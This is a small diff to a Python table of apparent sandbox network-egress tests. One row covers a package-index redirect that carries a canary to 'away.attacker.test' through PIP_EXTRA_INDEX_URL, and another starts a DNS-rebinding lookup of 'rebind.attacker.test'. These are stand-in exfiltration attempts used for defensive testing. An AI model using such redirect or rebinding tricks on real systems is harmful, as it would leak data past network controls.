@@ -260,7 +260,7 @@ ROWS = [
         """), sink(), connect(port=80), needs=("curl",)),
     Row("NE-39", "redirect from the allowed index to another host", "metadata", act("""
         attempt(ask, "http://index.test:8080/away/" + CANARY)
-        """), (sink(), name("away.attacker.test")), (resolve("net.resolve", "index.test"), resolve("net.resolve.installer", "away.attacker.test")), alone=True,
+        """), name("away.attacker.test"), (resolve("net.resolve", "index.test"), resolve("net.resolve.installer", "away.attacker.test")), alone=True,
         env={"PIP_EXTRA_INDEX_URL": "http://index.test:8080/away/{canary}"}),
     Row("NE-40", "name that changes its address after the check", "metadata", act("""
         attempt(socket.getaddrinfo, "rebind.attacker.test", 80)
